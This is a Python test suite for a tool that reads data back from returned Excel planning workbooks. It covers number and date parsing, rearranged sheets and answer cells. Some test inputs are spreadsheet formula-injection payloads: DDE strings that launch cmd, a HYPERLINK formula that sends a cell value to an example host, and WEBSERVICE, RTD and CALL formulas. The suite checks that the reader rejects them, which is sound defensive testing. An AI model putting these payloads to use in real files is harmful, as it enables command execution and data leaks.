"""Returned workbooks: what is read out of them, whatever people do to them, and what can't be read."""

from __future__ import annotations

import datetime as dt
from dataclasses import replace
from typing import Any

import pytest
from lxml import etree

from tests.exchange.returned.reading_back import ADS, AGREED, ANSWER, BACK, CLICKS, SESSIONS, WEB, address
from tests.exchange.sent_books import (
    PEOPLE,
    SATO,
    TANAKA,
    Filled,
    Office,
    differences,
    quarter,
    tag,
)

NO_NUMBER = "数式を数値として読み取れません。計算結果の数値を入力してください"


# --- what is read -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("person", PEOPLE, ids=lambda person: person.name)
@pytest.mark.parametrize("rest", ["visible", "none"])
def test_an_untouched_workbook_says_nothing(rest, person):
    office = Office(quarter(), rest=rest).send([person])
    back = office.read(office.book(person))
    assert (back.returned.person, back.returned.version) == (person.mail, "1")
    assert (back.returned.entries, back.faults, back.foreign) == ({}, (), ())


@pytest.mark.parametrize(
    ("typed", "read"),
    [
        (1200, 1200),
        (1200.5, 1200.5),
        ("１，２００", 1200),
        ("1,200件", 1200),
        ("1.2万", 12000),
        (0, 0),
        ("", None),
        ("　", None),
    ],
)
def test_numbers_are_read_as_in_the_plan_itself(office, book, typed, read):
    back = office.read(book.type({CLICKS: typed}))
    assert back.returned.entries.get(CLICKS) == read and back.faults == ()


def test_a_cleared_cell_is_a_change(office, book):
    assert office.read(book.type({SESSIONS: None})).returned.entries == {SESSIONS: None}


def test_an_answer_with_the_number_that_stood_beside_it(office, book):
    typed = {"state": "合意", "by": "田中", "on": dt.date(2026, 5, 10), "comment": "承知しました"}
    back = office.read(book.type({f"{ANSWER}.{column}": value for column, value in typed.items()}))
    sheet, row, _ = book.place(f"{ANSWER}.state")
    asked = book.value(sheet, row, 4)  # 計画の数値
    assert differences(office, back) == {
        f"{ANSWER}.state": "agreed", f"{ANSWER}.by": "田中", f"{ANSWER}.on": dt.date(2026, 5, 10),
        f"{ANSWER}.comment": "承知しました", f"{ANSWER}.value": asked,
    }  # fmt: skip


def test_the_stages_of_a_department(office):
    book = office.book(SATO)
    key = "actual[stage:opportunities][2026-06]"
    assert office.read(book.type({key: 7})).returned.entries == {key: 7}


def test_an_english_workbook():
    office = Office(quarter("en")).send([replace(TANAKA, department="Marketing")])
    book = Filled(office.books[TANAKA.mail]).type({CLICKS: 1200, f"{ANSWER}.state": "Agreed"})
    said = office.read(book).returned.entries
    assert said[CLICKS] == 1200 and said[f"{ANSWER}.state"] == "agreed"


def test_dates_of_the_1904_system(office, book):
    """Excel for Mac could count days from 1904: the stored numbers are 1,462 smaller, the dates the same."""
    properties = book.workbook.find(tag("workbookPr"))
    if properties is None:
        properties = book.workbook.makeelement(tag("workbookPr"))
        book.workbook.insert(0, properties)
    properties.set("date1904", "1")
    area = book.area("act_ads")
    for column in range(area.column, area.last_column + 1):
        value = book.value(area.sheet, area.row, column)
        if isinstance(value, float):
            book.put(area.sheet, area.row, column, value - 1462)
    # the headers of these were left as they were
    assert {fault.sheet for fault in office.read(book).faults if fault.level == "error"} == {WEB, BACK}
    area = book.area("act_web")
    for name in ("act_web", "act_stages"):
        area = book.area(name)
        for column in range(area.column, area.last_column + 1):
            value = book.value(area.sheet, area.row, column)
            if isinstance(value, float):
                book.put(area.sheet, area.row, column, value - 1462)
    book.put(*_place(book, CLICKS, 1462), 1200)
    book.type({f"{ANSWER}.state": "合意"}).put(*book.place(f"{ANSWER}.on"), 46152 - 1462)
    said = office.read(book).returned.entries
    assert (said[CLICKS], said[f"{ANSWER}.on"]) == (1200, dt.date(2026, 5, 10))  # 46152 is 2026-05-10 from 1900 on


def _place(book: Filled, key: str, earlier: int) -> tuple[str, int, int]:
    """The place of an actual where the headers are that many days smaller."""
    area = book.area("act_ads")
    row = book.row_of(area, "clicks:actual")
    day = (dt.date(2026, 5, 1) - dt.date(1899, 12, 30)).days - earlier
    return area.sheet, row, next(c for c in range(1, 30) if book.value(area.sheet, area.row, c) == day)


def test_headers_that_were_typed_anew_as_text(office, book):
    area = book.area("act_ads")
    for column, month in enumerate(("2026/4", "2026年5月", "２０２６年６月"), area.last_column - 2):
        book.put(area.sheet, area.row, column, month)
    row = book.row_of(area, "clicks:actual")
    book.put(area.sheet, row, area.last_column - 1, 1200)
    assert office.read(book).returned.entries == {CLICKS: 1200}


def test_the_readings_beside_japanese_are_no_part_of_a_text(office, book):
    """Excel keeps how 田中 was typed (たなか) in the same element as the text, and rich text in pieces."""
    cell = book.put(*book.place(f"{ANSWER}.by"), "")
    inline = cell.find(tag("is"))
    inline.clear()
    for words in ("田", "中"):
        run = inline.makeelement(tag("r"))
        run.append(_text("t", words))
        inline.append(run)
    reading = inline.makeelement(tag("rPh"), sb="0", eb="2")
    reading.append(_text("t", "たなか"))
    inline.append(reading)
    assert office.read(book).returned.entries[f"{ANSWER}.by"] == "田中"


def _text(name: str, words: str) -> Any:

    element = etree.Element(tag(name))
    element.text = words
    return element


# --- what people do to a workbook ------------------------------------------------------------------------------


def test_inserted_moved_renamed_hidden_and_sorted_things_do_not_matter(office, book):
    typed = {CLICKS: 1200, SESSIONS: 4800, "actual[ads:cost][2026-06]": 350000, f"{ANSWER}.state": "異議"}
    book.type(typed)
    area = book.area("act_ads")
    book.insert_rows(ADS, 1, 3)  # above the block
    book.insert_rows(ADS, area.row + 3 + 4, 2)  # inside it
    book.insert_columns(ADS, 1)  # before the ids
    book.insert_columns(ADS, 6, 2)  # between the words and the months
    book.put(ADS, area.row + 3, 6, "メモ")  # a header for what was inserted
    web = book.area("act_web")
    book.swap_rows(WEB, book.row_of(web, "sessions:actual"), book.row_of(web, "cv:actual"))
    agreed = book.area("tbl_agreement")
    book.swap_rows(AGREED, agreed.row + 1, agreed.last_row)
    book.rename_sheet(ADS, "うちの広告's").reverse_sheets().hide_all()
    back = office.read(book)
    assert {key: back.returned.entries[key] for key in typed} == {**typed, f"{ANSWER}.state": "objected"}
    assert back.faults == () and back.foreign == ()
    assert {key for key in back.returned.entries if not key.startswith(ANSWER)} == set(typed) - {f"{ANSWER}.state"}


COST, CV = "actual[ads:cost][2026-05]", "actual[ads:cv][2026-05]"


def test_rows_that_were_sorted_without_their_ids_are_named_and_not_taken(office, book):
    """The block of 広告 from column B on, KPI by KPI in another order: 広告費 and CV have changed places."""
    book.type({CLICKS: 1200, COST: 350000, CV: 30, SESSIONS: 4800})
    area = book.area("act_ads")
    one, other = book.row_of(area, "cost:target"), book.row_of(area, "cv:target")
    for line in range(3):
        book.swap_cells(ADS, one + line, other + line, range(area.column + 1, area.last_column + 1))
    names = [address(row, area.column + 1) for row in (other, one)]
    back = office.read(book)
    assert back.returned.entries == {CLICKS: 1200, SESSIONS: 4800}
    assert {key for key in back.returned.unread if "2026-05" in key} == {COST, CV}
    lines = [fault.line() for fault in back.faults]
    assert [line.partition("」の行ですが")[0] for line in lines] == [
        f"返送.xlsx 広告!{names[0]}: 「広告費」 → A列（非表示）の目印では「広告 › CV › 実績",
        f"返送.xlsx 広告!{names[1]}: 「CV」 → A列（非表示）の目印では「広告 › 広告費 › 実績",
    ]
    assert {fault.level for fault in back.faults} == {"error"} and back.foreign == ()


def test_ids_that_changed_places_are_noticed_by_the_unit_beside_them(office, book):
    book.type({COST: 350000, CV: 30})
    area = book.area("act_ads")
    cost, cv = book.row_of(area, "cost:actual"), book.row_of(area, "cv:actual")
    book.swap_cells(ADS, cost, cv, [area.column])
    unit = area.column + 3
    back = office.read(book)
    assert back.returned.entries == {} and {COST, CV} <= back.returned.unread
    assert [(fault.cell, fault.found) for fault in back.faults] == [
        (address(cv, unit), "件"), (address(cost, unit), "円"),
    ]  # fmt: skip


def test_stages_and_answers_sorted_without_their_ids(office):
    book = office.book(SATO)
    book.type({"actual[stage:sql][2026-05]": 9, "tbl_agreement[stage:sql].state": "合意"})
    for name, one, other in (
        ("act_stages", "stage:sql:actual", "stage:mql:actual"),
        ("tbl_agreement", "stage:sql", "stage:orders"),
    ):
        area = book.area(name)
        rows = book.row_of(area, one), book.row_of(area, other)
        book.swap_cells(area.sheet, *rows, range(area.column + 1, area.last_column + 1))
    back = office.read(book)
    assert back.returned.entries == {}
    assert {"actual[stage:sql][2026-05]", "tbl_agreement[stage:sql].state"} <= back.returned.unread
    assert {(fault.sheet, fault.found) for fault in back.faults} == {
        (BACK, "MQL"), (BACK, "SQL"), (AGREED, "SQL（全体）"), (AGREED, "受注（全体）"),
    }  # fmt: skip


def test_a_note_in_place_of_a_word_does_no_harm(office, book):
    """A word that stands nowhere else in the block says nothing about where the row belongs."""
    area = book.area("act_ads")
    book.put(ADS, book.row_of(area, "clicks:actual"), area.column + 1, "5月から新しい計測")
    assert office.read(book.type({CLICKS: 1200})).returned.entries == {CLICKS: 1200}


def test_a_sheet_that_was_copied_has_its_names_twice(office, book):
    """Excel gives the copy names of its own: those of the whole workbook count."""
    name = book.name("act_ads")
    copy = name.makeelement(tag("definedName"), name="act_ads", localSheetId="0")
    copy.text = f"'{WEB}'!$A$1:$B$2"
    name.addprevious(copy)
    assert office.read(book.type({CLICKS: 1200})).returned.entries == {CLICKS: 1200}


def test_a_row_that_was_copied_with_the_same_values_does_no_harm(office, book):
    area = book.area("act_ads")
    row = book.row_of(area, "clicks:actual")
    book.insert_rows(ADS, row + 1)
    for column in range(area.column, area.last_column + 1):
        book.put(ADS, row + 1, column, book.value(ADS, row, column))
    assert office.read(book).returned.entries == {}


# --- what can't be read ----------------------------------------------------------------------------------------


def test_a_cell_that_cannot_be_read_is_named_and_all_others_are_taken(office, book):
    back = office.read(book.type({CLICKS: "千二百くらい", SESSIONS: 4800, "actual[ads:cost][2026-06]": -5}))
    sheet, row, column = book.place(CLICKS)
    assert back.returned.entries == {SESSIONS: 4800}
    assert back.returned.unread == {CLICKS, "actual[ads:cost][2026-06]"}
    lines = [fault.line() for fault in back.faults]
    assert sheet == ADS
    assert lines[0] == (
        f"返送.xlsx 広告!{address(row, column)}: 「千二百くらい」 → 数値（例: 1,200）を入力してください（0以上）"
    )
    june = address(*book.place("actual[ads:cost][2026-06]")[1:])
    assert lines[1].startswith(f"返送.xlsx 広告!{june}: ") and "「-5」" in lines[1]
    assert len(lines) == 2 and {fault.level for fault in back.faults} == {"error"}


@pytest.mark.parametrize("typed", ["=1+1", "+1", "-1", "@SUM(1)", "＝１", "＋１", "－１", "＠x", "\t=1", "\r=1"])
def test_text_that_looks_like_a_formula_stays_text(office, book, typed):
    back = office.read(book.type({f"{ANSWER}.comment": typed}))
    assert back.returned.entries[f"{ANSWER}.comment"] == typed.strip()
    assert back.faults == ()


LIKE_FORMULAS = ["=1+1", "@SUM(1)", "＝１", "＠x", "\t=1", "\r=cmd|' /c calc'!A1", "=SUM(" + "1," * 99 + ")"]


@pytest.mark.parametrize("key", [CLICKS, "actual[ads:cost][2026-06]"])
@pytest.mark.parametrize("typed", LIKE_FORMULAS)
def test_and_is_no_number(office, book, typed, key):
    back = office.read(book.type({key: typed}))
    assert back.returned.entries == {} and back.returned.unread == {key}
    assert [fault.allowed for fault in back.faults] == [NO_NUMBER]


@pytest.mark.parametrize(("typed", "number"), [("+5", 5), ("＋５", 5), ("5", 5)])
def test_a_signed_number_is_one(office, book, typed, number):
    assert office.read(book.type({CLICKS: typed})).returned.entries == {CLICKS: number}


def test_of_a_formula_its_number_is_taken_with_a_warning(office, book):
    back = office.read(book.formula(CLICKS, "SUM(600,600)", 1200))
    assert back.returned.entries == {CLICKS: 1200}
    (fault,) = back.faults
    assert fault.level == "warning"
    assert fault.line() == (
        f"返送.xlsx 広告!{address(*book.place(CLICKS)[1:])}: 「=SUM(600,600)」 → "
        "数式の代わりに、計算結果の 1200 だけを取り込みました"
    )


@pytest.mark.parametrize(
    ("formula", "result", "kind"),
    [
        ('"約1200"', "約1200", "str"),
        ("1/0", "#DIV/0!", "e"),
        ("TRUE", "1", "b"),
        ("A1", None, ""),  # never calculated
    ],
)
def test_a_formula_without_a_number_is_refused(office, book, formula, result, kind):
    back = office.read(book.formula(CLICKS, formula, result, kind))
    assert (back.returned.entries, back.returned.unread) == ({}, {CLICKS})
    assert [fault.allowed for fault in back.faults] == [NO_NUMBER]


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|'/c calc'!A0",
        "[1]Sheet1!A1",
        "'C:\\temp\\[other.xlsx]Sheet 1'!$A$1*1",
        'HYPERLINK("http://example.com/?"&A1,5)',
        'VALUE(WEBSERVICE("http://example.com"))',
        'hyperlink ("x",1)',
        'IMPORTRANGE("x","A1")',
        "_xlfn.IMAGE(A1)",
        'RTD("prog.id",,"x")',
        "CALL(1,2)",
        "SUM([2]!table,1)",
    ],
)
def test_a_formula_that_reaches_out_is_refused_even_with_a_number(office, book, formula):
    back = office.read(book.formula(CLICKS, formula, 1200))
    assert (back.returned.entries, back.returned.unread) == ({}, {CLICKS})
    assert "ほかのファイルやプログラム、Webを参照する数式" in back.faults[0].line()


@pytest.mark.parametrize("formula", ['IF("a|b"="[x]y!",1,2)', "SUM(Table1[clicks])", "SUM(A1,A2)", "MYINFO(1)"])
def test_a_harmless_formula_is_not_mistaken_for_one(office, book, formula):
    assert office.read(book.formula(CLICKS, formula, 5)).returned.entries == {CLICKS: 5}


def test_a_shared_formula_is_judged_by_the_cell_that_spells_it_out(office, book):
    sheet, row, column = book.place(CLICKS)
    first = book.put(sheet, row, column, 5, formula='HYPERLINK("http://example.com",5)')
    first.find(tag("f")).set("t", "shared")
    first.find(tag("f")).set("si", "0")
    second = book.put(sheet, row, column + 1, 5, formula="")
    second.find(tag("f")).set("t", "shared")
    second.find(tag("f")).set("si", "0")
    back = office.read(book)
    assert back.returned.unread == {CLICKS, "actual[ads:clicks][2026-06]"}
    second.find(tag("f")).set("si", "9")
    assert office.read(book).faults[1].allowed == NO_NUMBER


NO_WORDS = (("1+1", 2, ""), (None, "#N/A", "e"), ('"合意"', "合意", "str"))


def test_a_state_that_is_a_formula_or_an_error_value_is_no_answer(office, book):
    book.type({f"{ANSWER}.by": "田中", f"{ANSWER}.on": dt.date(2026, 5, 10), f"{ANSWER}.comment": "多い"})
    for formula, value, kind in NO_WORDS:
        book.put(*book.place(f"{ANSWER}.state"), value, formula=formula, kind=kind)
        back = office.read(book)
        assert back.returned.entries == {}
        assert back.returned.unread == {f"{ANSWER}.{column}" for column in ("state", "by", "on", "comment", "value")}
        (fault,) = back.faults
        assert fault.allowed == (
            "数式やエラー値は取り込みません。文字や日付を入力してください。tanaka@example.com の「広告」への回答は"
            "取り込んでいません。「合意」の回答は前のままです"
        )


@pytest.mark.parametrize("column", ["by", "on", "comment"])
def test_a_cell_that_cannot_be_read_does_not_take_the_answer_with_it(office, book, column):
    """An objection is heard whatever stands in the cells beside it."""
    rest = {"by": "田中", "on": dt.date(2026, 5, 10), "comment": "多い"}
    book.type({f"{ANSWER}.state": "異議", **{f"{ANSWER}.{name}": said for name, said in rest.items()}})
    del rest[column]
    for formula, value, kind in NO_WORDS:
        book.put(*book.place(f"{ANSWER}.{column}"), value, formula=formula, kind=kind)
        back = office.read(book)
        number = back.returned.entries[f"{ANSWER}.value"]
        assert number == pytest.approx(8)  # a whole number: what the sheet asks of the channel within the quarter
        assert back.returned.entries == {
            f"{ANSWER}.state": "objected", f"{ANSWER}.value": number,
            **{f"{ANSWER}.{name}": said for name, said in rest.items()},
        }  # fmt: skip
        assert back.returned.unread == {f"{ANSWER}.{column}"}
        (fault,) = back.faults
        assert (fault.sheet, fault.cell) == (AGREED, f"{'HIJ'['by on comment'.split().index(column)]}18")
        assert fault.allowed == (
            "数式やエラー値は取り込みません。文字や日付を入力してください。tanaka@example.com の「広告」への回答は"
            "受け付け、このセルだけを除きました"
        )


def test_a_day_that_does_not_exist_leaves_the_objection_as_it_is(office, book):
    back = office.read(book.type({f"{ANSWER}.state": "異議", f"{ANSWER}.on": "2026/13/45"}), lang="en")
    assert back.returned.entries[f"{ANSWER}.state"] == "objected"
    assert back.returned.unread == {f"{ANSWER}.on"}
    (fault,) = back.faults
    assert fault.found == "2026/13/45"
    assert fault.allowed.endswith(". The answer of tanaka@example.com on 広告 was taken without this cell")


def test_a_bad_cell_without_an_answer_is_told_by_itself(office, book):
    back = office.read(book.type({f"{ANSWER}.on": "2026/13/45"}))
    assert back.returned.entries == {} and back.returned.unread == {f"{ANSWER}.on"}
    assert [fault.allowed for fault in back.faults] == ["2026/9/30 のように年月日を入力してください"]


def test_an_answer_that_is_none_of_the_choices(office, book):
    back = office.read(book.type({f"{ANSWER}.state": "たぶん"}))
    assert back.returned.entries == {} and f"{ANSWER}.state" in back.returned.unread
    assert [fault.line() for fault in back.faults] == [
        f"返送.xlsx 合意!G{book.place(f'{ANSWER}.state')[1]}: 「たぶん」 → 次から選んでください: 合意 / 異議。"
        "tanaka@example.com の「広告」への回答は取り込んでいません。「合意」の回答は前のままです"
    ]
